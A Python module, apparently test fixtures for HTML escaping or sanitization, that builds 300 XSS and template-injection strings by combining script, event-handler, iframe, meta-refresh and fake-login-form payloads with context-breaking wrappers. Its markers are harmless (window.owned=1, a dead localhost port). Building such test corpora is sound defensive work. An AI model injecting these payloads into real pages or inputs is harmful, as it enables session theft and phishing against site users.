"""Three hundred texts that would run, load or break out where they are shown as anything but text.

What runs leaves its mark on `window.owned`; what loads asks a port where nobody listens.
"""

from itertools import product
from typing import Final
from urllib.parse import quote

DOES: Final = "window.owned=1"
ELSEWHERE: Final = "http://127.0.0.1:9/x"

RUNS: Final = (
    f"<script>{DOES}</script>",
    f"<ScRiPt>{DOES}</sCrIpT>",
    f"<script src={ELSEWHERE}></script>",
    f'<img src=x onerror="{DOES}">',
    f"<img src={ELSEWHERE}>",
    f"<svg onload={DOES}>",
    f"<svg><script>{DOES}</script></svg>",
    f'<svg><use href="{ELSEWHERE}#a"></use></svg>',
    f"<details open ontoggle={DOES}>",
    f"<input autofocus onfocus={DOES}>",
    f'<iframe srcdoc="<script>parent.{DOES}</script>"></iframe>',
    f"<iframe src=javascript:parent.{DOES}></iframe>",
    f'<object data="{ELSEWHERE}"></object>',
    f'<embed src="{ELSEWHERE}">',
    f'<link rel=stylesheet href="{ELSEWHERE}">',
    f'<style>@import "{ELSEWHERE}";*{{display:none}}</style>',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}/">',
    f'<form action="{ELSEWHERE}"><button>Sign in again</button>',
    f'<a href="javascript:{DOES}">click</a>',
    f'<math><mtext><img src=x onerror="{DOES}"></mtext></math>',
    f"<template><script>{DOES}</script></template>",
    f"<body onload={DOES}>",
    f"<video><source onerror={DOES}></video>",
    f"<marquee onstart={DOES}>",
)
AROUND: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea></title></style></script>{}",
    "--><!--{}-->",
    "]]>{}",
    "{{{{7*7}}}}{{%{}%}}",
    "${{{}}}`{}`",
    '" autofocus onfocus={} x="',
    "\u202e{}\u2066",
    "&lt;{}&#x3c;",
    "\\u003c{}\\x3c",
)
TEXTS: Final = tuple(around.format(*[runs] * around.count("{}")) for runs, around in product(RUNS, AROUND))
"""All of them, each another."""


def as_header(text: str) -> str:
    """Return what of a text can stand in a header's value."""
    return "".join(sign for sign in text if " " <= sign <= "~")


def as_path(text: str) -> str:
    """Return what of a text can stand in the path of a callback URL: most signs are escaped, some need not be."""
    return quote(text, safe="'()*!;:@&=+$,")
